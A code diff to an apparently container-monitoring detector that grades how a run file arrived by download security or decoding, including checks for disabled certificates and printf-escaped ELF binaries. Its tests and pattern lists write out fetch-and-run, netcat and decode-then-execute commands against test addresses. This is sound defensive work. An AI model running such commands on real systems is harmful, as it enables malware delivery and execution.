@@ -1,14 +1,12 @@
-//! Files that the container's own command fetched without encryption, or decoded from its text,
-//! before it ran them.
+//! Files that the container's own command fetched, or decoded from its text, before it ran them.
 
 use bstr::ByteSlice as _;
 
 use super::data_sources::{decodes, fetches};
 use super::script_paths::locate_from;
 use crate::catalog;
-use crate::detect::program_roles;
 use crate::detect::rule_context::RuleContext;
-use crate::event::Bytes;
+use crate::detect::{Severity, program_roles};
 use crate::state::ProcessEntry;
 
 /// Maximum number of files through which the origin of a file is followed: an archive, a copy.
@@ -16,9 +14,79 @@ const MAX_STEPS: usize = 3;
 /// A run of letters and digits from this length on is encoded data, not a word.
 const ENCODED: usize = 24;
 
-/// How the file at `path` came into the container, as a line of a finding. `None`: not by a
-/// download or from encoded text, or by a download that cannot be changed on its way.
-pub(super) fn of(ctx: &RuleContext<'_>, path: &[u8]) -> Option<String> {
+/// Escaped bytes in a text from which on it is a program, not a colour or a special character.
+const ESCAPES: usize = 12;
+
+/// How a file came into the container.
+pub(super) struct Brought {
+    /// As a line of a finding.
+    pub(super) how: String,
+    /// Severity of running it: low when nobody can have changed the download on its way.
+    pub(super) severity: Severity,
+}
+
+impl Brought {
+    fn fetched(safety: Safety, by: &str) -> Self {
+        let (how, severity) = match safety {
+            Safety::Checked => ("fetched by", Severity::Low),
+            Safety::Unchecked => (
+                "fetched without checking the certificate by",
+                Severity::Medium,
+            ),
+            Safety::Open => ("fetched without https by", Severity::Medium),
+        };
+        let how = format!("{how}: {by}");
+        Self { how, severity }
+    }
+
+    fn decoded(by: &str) -> Self {
+        Self {
+            how: format!("decoded from the command's own text by: {by}"),
+            severity: Severity::Medium,
+        }
+    }
+}
+
+/// Whether somebody between may have changed a download.
+#[derive(Clone, Copy)]
+enum Safety {
+    /// By https.
+    Checked,
+    /// By https, from whoever answers.
+    Unchecked,
+    Open,
+}
+
+/// The safety of a download that these words of a command line or a text describe.
+fn safety<'a>(words: impl Iterator<Item = &'a [u8]> + Clone) -> Safety {
+    let any = |part: &str| words.clone().any(|word| word.contains_str(part));
+    if !any("https://") || any("http://") {
+        return Safety::Open;
+    }
+    let names: &[&str] = &[
+        "--insecure",
+        "--no-check-certificate",
+        "_create_unverified_context",
+        "CERT_NONE",
+        "verify=False",
+        "rejectUnauthorized",
+        "--check-certificate=false",
+    ];
+    // Several options in one word: `curl -fsSLk`.
+    let plain = |b: &u8| b"fsSLkvigqnNOJR46#l".contains(b);
+    let short = |word: &[u8]| {
+        word.strip_prefix(b"-")
+            .is_some_and(|letters| letters.contains(&b'k') && letters.iter().all(plain))
+    };
+    let unchecked = names.iter().any(|name| any(name)) || words.clone().any(short);
+    match unchecked {
+        true => Safety::Unchecked,
+        false => Safety::Checked,
+    }
+}
+
+/// How the file at `path` came into the container. `None`: not by a download or from encoded text.
+pub(super) fn of(ctx: &RuleContext<'_>, path: &[u8]) -> Option<Brought> {
     let mut at = path.to_vec();
     for _ in 0..MAX_STEPS {
         let writer = ctx.writer(ctx.activity(&at)?)?;
@@ -31,21 +99,19 @@ pub(super) fn of(ctx: &RuleContext<'_>, path: &[u8]) -> Option<String> {
 }
 
 /// The process fetched the data that it wrote, or decoded it.
-fn brought_by(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Option<String> {
+fn brought_by(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Option<Brought> {
     let name = program_roles::of(writer);
     let command = || program_roles::command_line(&writer.argv, &writer.exe, 160);
     if ctx.names().is_downloader(name) || fetches(ctx.names(), name, &writer.argv) {
-        let encrypted = |a: &Bytes| a.contains_str("https://");
-        let plain = |a: &Bytes| a.contains_str("http://");
-        let safe = writer.argv.iter().any(encrypted) && !writer.argv.iter().any(plain);
-        return (!safe).then(|| format!("fetched without https by: {}", command()));
+        let safety = safety(writer.argv.iter().map(|word| &***word));
+        return Some(Brought::fetched(safety, &command()));
+    }
+    if prints(ctx, name) && writer.argv.iter().skip(1).any(|text| is_escaped(text)) {
+        return Some(Brought::decoded(&command()));
     }
     let text = text_above(ctx, writer)?;
     if decodes(ctx.names(), name, &writer.argv) && has_encoded_data(text) {
-        return Some(format!(
-            "decoded from the command's own text by: {}",
-            command()
-        ));
+        return Some(Brought::decoded(&command()));
     }
     // The end of a pipe that begins with a download: `curl … | tar -x`.
     let own = program_roles::leaf(writer.argv.first()?);
@@ -55,12 +121,37 @@ fn brought_by(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Option<String> {
             let mut words = part.trim_start().split(|b| b.is_ascii_whitespace());
             words.next().map(<[u8]>::to_vec).unwrap_or_default()
         };
-        statement.contains_str("http://")
+        statement.contains_str("://")
             && has_program(statement, |name| ctx.names().is_downloader(name))
             && parts.any(|part| program_roles::leaf(&first(part)) == own)
     };
-    let through = statements(text).any(piped);
-    through.then(|| format!("fetched without https through: {}", command()))
+    let statement = statements(text).find(|statement| piped(statement))?;
+    let shown = crate::event::escape(statement.trim()).to_string();
+    Some(Brought::fetched(safety(words(statement)), &shown))
+}
+
+/// The words of a shell's text.
+fn words(text: &[u8]) -> impl Iterator<Item = &[u8]> + Clone {
+    text.split(|b| b.is_ascii_whitespace())
+}
+
+/// The program prints what its arguments say.
+fn prints(ctx: &RuleContext<'_>, name: &[u8]) -> bool {
+    matches!(name, b"printf" | b"echo") || ctx.names().is_interpreter(name)
+}
+
+/// The text is mostly bytes in escaped form, such as `\x7f\x45` or `\177\105`.
+fn is_escaped(text: &[u8]) -> bool {
+    let escape = |at: &usize| {
+        let rest = text.get(at + 1..).unwrap_or_default();
+        match rest.first() {
+            Some(b'x') => rest.get(1).is_some_and(u8::is_ascii_hexdigit),
+            Some(b) => b.is_ascii_digit(),
+            None => false,
+        }
+    };
+    let escapes = text.find_iter(b"\\").filter(escape).count();
+    escapes >= ESCAPES && escapes * 8 >= text.len()
 }
 
 /// The statements of a shell's text, roughly: quotes are not followed.
@@ -69,7 +160,7 @@ fn statements(text: &[u8]) -> impl Iterator<Item = &[u8]> {
 }
 
 /// The shell opened the file for the output of a download or a decoder: `curl … >/tmp/x`.
-fn redirected(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<String> {
+fn redirected(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<Brought> {
     let text = program_roles::shell_text(&writer.argv)
         .filter(|_| ctx.names().is_shell(program_roles::of(writer)))?;
     let file = program_roles::leaf(path);
@@ -84,17 +175,18 @@ fn redirected(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Opti
             program_roles::leaf(word) == file
         })
     };
-    let statement = statements(text).find(opens)?;
-    let shown = crate::event::escape(statement.trim());
     let decoder = |name: &[u8]| catalog::programs::DECODERS.contains(&without_digits(name));
-    if statement.contains_str("http://")
-        && has_program(statement, |name| ctx.names().is_downloader(name))
-    {
-        return Some(format!("fetched without https by: {shown}"));
-    }
-    let decoded = statement.contains_str(" -d") && has_program(statement, decoder);
-    (decoded && has_encoded_data(text))
-        .then(|| format!("decoded from the command's own text by: {shown}"))
+    statements(text).filter(opens).find_map(|statement| {
+        let shown = crate::event::escape(statement.trim()).to_string();
+        if statement.contains_str("://")
+            && has_program(statement, |name| ctx.names().is_downloader(name))
+        {
+            return Some(Brought::fetched(safety(words(statement)), &shown));
+        }
+        let decoded = statement.contains_str(" -d") && has_program(statement, decoder);
+        (decoded && has_encoded_data(text) || is_escaped(statement))
+            .then(|| Brought::decoded(&shown))
+    })
 }
 
 /// The name of a decoder as the table has it: `base64` is `base`.
@@ -163,7 +255,15 @@ mod tests {
     fn programs_that_the_start_fetched_or_decoded() {
         let curl = |url| runs("x", &["curl", "-o", "/tmp/x", url]);
         assert_eq!(curl("http://203.0.113.9/x"), Severity::Medium);
-        assert_eq!(curl("https://get.example/x"), Severity::Info);
+        assert_eq!(curl("https://get.example/x"), Severity::Low);
+        let unchecked = ["curl", "-fsSk", "-o", "/tmp/x", "https://get.example/x"];
+        assert_eq!(runs("x", &unchecked), Severity::Medium);
+        let unchecked = ["wget", "--no-check-certificate", "https://get.example/x"];
+        assert_eq!(runs("x", &unchecked), Severity::Medium);
+        let tgz = "wget -qO- https://get.example/x.tgz | tar -xz -C /tmp; /tmp/x";
+        assert_eq!(runs(tgz, &["tar", "-xz", "-C", "/tmp"]), Severity::Low);
+        let tgz = "wget -qO- http://get.example/x.tgz | tar -xz -C /tmp; /tmp/x";
+        assert_eq!(runs(tgz, &["tar", "-xz", "-C", "/tmp"]), Severity::Medium);
         assert_eq!(runs("x", &["nc", "203.0.113.9", "80"]), Severity::Medium);
         assert_eq!(runs(BLOB, &["base64", "-d"]), Severity::Medium);
         let text = "echo \"$CONFIG\" | base64 -d >/tmp/x; sh /tmp/x";
@@ -190,6 +290,18 @@ mod tests {
             ),
             (
                 "curl -s https://get.example/p >/tmp/x; /tmp/x",
+                Severity::Low,
+            ),
+            (
+                r"printf '\x7f\x45\x4c\x46\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02' >/tmp/x; /tmp/x",
+                Severity::Medium,
+            ),
+            (
+                r"printf '\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0' >/tmp/x; printf '\76\0\1' >>/tmp/x",
+                Severity::Medium,
+            ),
+            (
+                r"printf '#!/bin/sh\n\x23 \033[32mready\033[0m\nexec sleep 9\n' >/tmp/x; /tmp/x",
                 Severity::Info,
             ),
             (
@@ -228,7 +340,7 @@ mod tests {
     fn a_script_that_the_start_fetched() {
         for (url, severity) in [
             ("http://203.0.113.9/a.sh", Severity::Medium),
-            ("https://get.example/a.sh", Severity::Info),
+            ("https://get.example/a.sh", Severity::Low),
         ] {
             let mut w = World::starting();
             let init = w.init();
